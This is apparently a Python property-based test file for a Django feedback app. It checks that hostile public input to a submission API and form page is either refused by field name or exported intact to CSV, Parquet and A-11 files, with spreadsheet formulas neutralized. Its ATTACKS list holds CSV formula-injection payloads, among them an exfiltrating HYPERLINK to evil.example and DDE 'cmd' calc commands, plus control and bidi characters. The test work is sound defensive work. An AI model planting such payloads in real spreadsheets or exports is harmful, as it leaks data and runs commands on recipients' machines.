"""Hostile text from the public, end to end: through the submission API (the widget's keyless
path) and the hosted page, then out through the CSV and Parquet exports and the A-11 response
file. Every submission is either accepted and then found intact in every file (formula-like
cells neutralized in CSV), or refused with a 400 naming the field; every file completes and
parses. Bounded examples, so it stays a few seconds on SQLite and PostgreSQL alike."""

import csv
import io
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pyarrow.parquet as pq
import pytest
from django.test import Client, override_settings
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from govcx.accounts.tests.api_helpers import api_get, token_for
from govcx.collection.models import Response
from govcx.collection.redaction import redact
from govcx.collection.tests.helpers import ORIGIN, published_survey
from govcx.collection.validation import OTHER_LIMIT
from govcx.core.text import is_acceptable, text_problem
from govcx.reporting.models import Collection
from govcx.reporting.services import collection_open
from govcx.reporting.tests.helpers import Q2, at
from govcx.surveys.models import Survey
from govcx.testing.factories import World, signed_in

ATTACKS = [
    "\x00",
    "a\x00b",
    "\ud800",
    "x\udfffy",
    "\x07",
    "\x1b[31m",
    "\x0b\x0c",
    "\x1c",
    "\t",
    "\r\n",
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "-2",
    "-0.5",
    "\u202eevil\u202c",
    "\u200fRTL\u200e",
    "🙂",
    "x" * 1500,
]
PIECE = st.one_of(
    st.sampled_from(ATTACKS),
    st.text(st.characters(exclude_categories=()), max_size=12),
    st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF),
)
HOSTILE = st.lists(PIECE, max_size=3).map("".join)
# Spreadsheets run these as formulas; plain numbers such as -2 are left alone (docs/api.md).
FORMULA_START = tuple("=+-@\t\r")
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
SURROGATES = re.compile("[\ud800-\udfff]")
COMMENT_LIMIT = 1000


@dataclass
class Sent:
    comment: str
    other: str
    location: str
    page_url: str


def as_csv(stored: str) -> str:
    """What a CSV cell must hold for stored text: a leading quote before a formula."""
    if stored.startswith(FORMULA_START) and not NUMBER.fullmatch(stored):
        return "'" + stored
    return stored


def stored_text(sent: str) -> str | None:
    """What the answer should be once accepted: trimmed, redacted, or absent when blank."""
    trimmed = sent.strip()
    return redact(trimmed).text if trimmed else None


def too_long(field: str, value: str) -> bool:
    limits = {"answers.comment": COMMENT_LIMIT, "answers.went_well__other": OTHER_LIMIT}
    return len(value.strip()) > limits.get(field, len(value))


def as_received(value: str) -> str:
    """The string the server reads from JSON: an escaped high and low surrogate side by side
    decode to one character, as JSON says."""
    decoded: str = json.loads(json.dumps(value))
    return decoded


def check_refusal(errors: dict[str, str], sent: dict[str, str]) -> None:
    """Each field named was one with text the rule refuses (or too long), and every such field
    is named. ``sent`` holds the fields checked in one pass: the API reads its own fields
    first (400 ``malformed``) and checks the answers only when they are sound (``invalid``)."""
    assert errors
    for field, message in errors.items():
        assert field in sent, (field, message)
        assert text_problem(sent[field]) or too_long(field, sent[field]), (field, message)
    for field, value in sent.items():
        if text_problem(value):
            assert field in errors, field


def submit_api(survey: Survey, text: Sent) -> Response | None:
    body = {
        "survey": survey.public_id,
        "touchpoint": survey.touchpoints.get().pk,
        "answers": {
            "trust": "1",
            "went_well": ["ease", "other"],
            "went_well__other": text.other,
            "comment": text.comment,
        },
        "location_code": text.location,
        "page_url": text.page_url,
    }
    response = Client().post(
        "/api/v1/submissions", body, content_type="application/json", HTTP_ORIGIN=ORIGIN
    )
    context = {"location_code": text.location, "page_url": text.page_url}
    answers = {"answers.comment": text.comment, "answers.went_well__other": text.other}
    sent = {**context, **answers}
    if response.status_code == 400:
        refused = response.json()
        check_refusal(refused["errors"], context if refused["error"] == "malformed" else sent)
        return None
    assert response.status_code == 201, response.content
    for field, value in sent.items():
        assert not text_problem(value), field
        assert not too_long(field, value), field
    stored = Response.objects.get(pk=response.json()["id"])
    assert (stored.page_url, stored.location_code) == (text.page_url, redact(text.location).text)
    return stored


def submit_page(survey: Survey, text: Sent) -> Response | None:
    """A browser cannot send a lone surrogate in a form (it sends UTF-8): leave them out."""
    comment, other = SURROGATES.sub("", text.comment), SURROGATES.sub("", text.other)
    before = set(Response.objects.values_list("pk", flat=True))
    response = Client().post(
        reverse("collection:survey", args=[survey.public_id]),
        {
            "step": "1",
            "trust": "1",
            "went_well": ["ease", "other"],
            "went_well__other": other,
            "comment": comment,
            "location": SURROGATES.sub("", text.location),
        },
    )
    sent = {"comment": comment, "went_well__other": other}
    if response.status_code == 400:
        html = response.content.decode()
        named = {field for field in sent if f'href="#id_{field}"' in html}
        check_refusal(
            {f"answers.{f}": "" for f in named}, {f"answers.{k}": v for k, v in sent.items()}
        )
        return None
    assert response.status_code == 302, response.content
    for field, value in sent.items():
        assert not text_problem(value), field
        assert not too_long(f"answers.{field}", value), field
    stored = Response.objects.exclude(pk__in=before).get()
    # The location comes from the link: left out, not refused, when it is not acceptable text.
    location = SURROGATES.sub("", text.location)
    assert stored.location_code == (redact(location).text if is_acceptable(location) else "")
    return stored


def check_answers_kept(stored: Response, comment: str, other: str) -> None:
    assert stored.answers.get("comment") == stored_text(comment)
    assert stored.answers.get("went_well__other") == stored_text(other)


def check_exports(world: World, survey: Survey, accepted: list[Response]) -> None:
    token = token_for(world.owner)
    content = b"".join(
        api_get("/api/v1/responses/export", token, survey=survey.pk).streaming_content
    )
    table = {
        int(r["response_id"]): r for r in csv.DictReader(io.StringIO(content.decode("utf-8-sig")))
    }
    parquet = b"".join(
        api_get(
            "/api/v1/responses/export", token, survey=survey.pk, format="parquet"
        ).streaming_content
    )
    columns = pq.read_table(io.BytesIO(parquet)).to_pylist()
    rows = {row["response_id"]: row for row in columns}
    if not accepted:
        return
    Collection.objects.all().delete()  # opened afresh, so it covers what was just stored
    detail = collection_open(world.service, Q2, by=world.owner).details.get()
    a11: Any = signed_in(world.owner).get(
        reverse("reporting:a11-responses", args=[detail.collection_id, detail.pk])
    )
    a11_rows = {
        r["external_id"]: r
        for r in csv.DictReader(io.StringIO(b"".join(a11.streaming_content).decode()))
    }
    for stored in accepted:
        comment = stored.answers.get("comment") or ""
        other = stored.answers.get("went_well__other") or ""
        assert table[stored.pk]["comment"] == as_csv(comment)
        assert table[stored.pk]["went_well__other"] == as_csv(other)
        assert table[stored.pk]["location_code"] == as_csv(stored.location_code)
        assert (rows[stored.pk]["comment"], rows[stored.pk]["went_well__other"]) == (comment, other)
        assert rows[stored.pk]["location_code"] == stored.location_code
        assert a11_rows[str(stored.pk)]["question_4"] == as_csv(comment)


@pytest.fixture
def hostile_survey(world: World) -> Iterator[Survey]:
    with override_settings(GOVCX_RATE_PER_ADDRESS="100000/m"):  # one address sends them all
        yield published_survey(world)


@settings(
    max_examples=20,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(comment=HOSTILE, other=HOSTILE, location=HOSTILE, path=HOSTILE)
def test_hostile_text_is_refused_by_name_or_exported_intact(
    world: World, hostile_survey: Survey, comment: str, other: str, location: str, path: str
) -> None:
    comment, other = as_received(comment), as_received(other)
    page_url = as_received(f"https://www.fema.example.gov/{path}"[:2000])
    text = Sent(comment, other, as_received(location[:100]), page_url)
    accepted = [
        stored
        for stored in (submit_api(hostile_survey, text), submit_page(hostile_survey, text))
        if stored is not None
    ]
    for stored in accepted:
        comment_sent = SURROGATES.sub("", comment) if stored.source == "page" else comment
        other_sent = SURROGATES.sub("", other) if stored.source == "page" else other
        check_answers_kept(stored, comment_sent, other_sent)
    Response.objects.filter(pk__in=[r.pk for r in accepted]).update(received_at=at(2, 10))
    check_exports(world, hostile_survey, accepted)
